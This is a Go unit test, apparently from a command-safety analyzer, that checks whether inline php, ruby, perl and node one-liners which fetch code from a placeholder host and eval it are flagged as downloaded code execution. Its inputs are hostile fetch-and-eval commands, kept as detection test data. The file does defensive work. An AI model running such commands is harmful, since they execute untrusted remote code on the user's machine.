package bash

import (
	"testing"

	"github.com/toolwarden/toolwarden/sdk"
)

// downloadedExec reports whether the facts of src execute downloaded code.
func downloadedExec(f *sdk.Facts) bool {
	for _, d := range f.DynamicExec {
		if d.Downloaded {
			return true
		}
	}
	return false
}

// TestInlineEvalOfDownload checks that inline code of php/ruby/perl/node
// evaluating fetched content is downloaded code executed, directly or
// through a variable, and that an eval of a literal next to a fetch is not.
func TestInlineEvalOfDownload(t *testing.T) {
	for _, src := range []string{
		`php -r "eval(file_get_contents('https://h.example/x'));"`,
		`php -r '$c = file_get_contents("https://h.example/x"); eval($c);'`,
		`ruby -e "eval(Net::HTTP.get(URI('https://h.example/x')))"`,
		`perl -MLWP::Simple -e 'eval get("https://h.example/x")'`,
		`node -e "eval(await (await fetch('https://h.example/x')).text())"`,
	} {
		if f := run(t, src); !downloadedExec(f) {
			t.Errorf("%s: no downloaded exec\n%s", src, dump(f))
		}
	}
	for _, src := range []string{
		`php -r 'eval("echo 1;"); $x = file_get_contents("https://h.example/x");'`,
		`php -r 'eval(file_get_contents("local.php"));'`,
	} {
		if f := run(t, src); downloadedExec(f) {
			t.Errorf("%s: unexpected downloaded exec\n%s", src, dump(f))
		}
	}
}
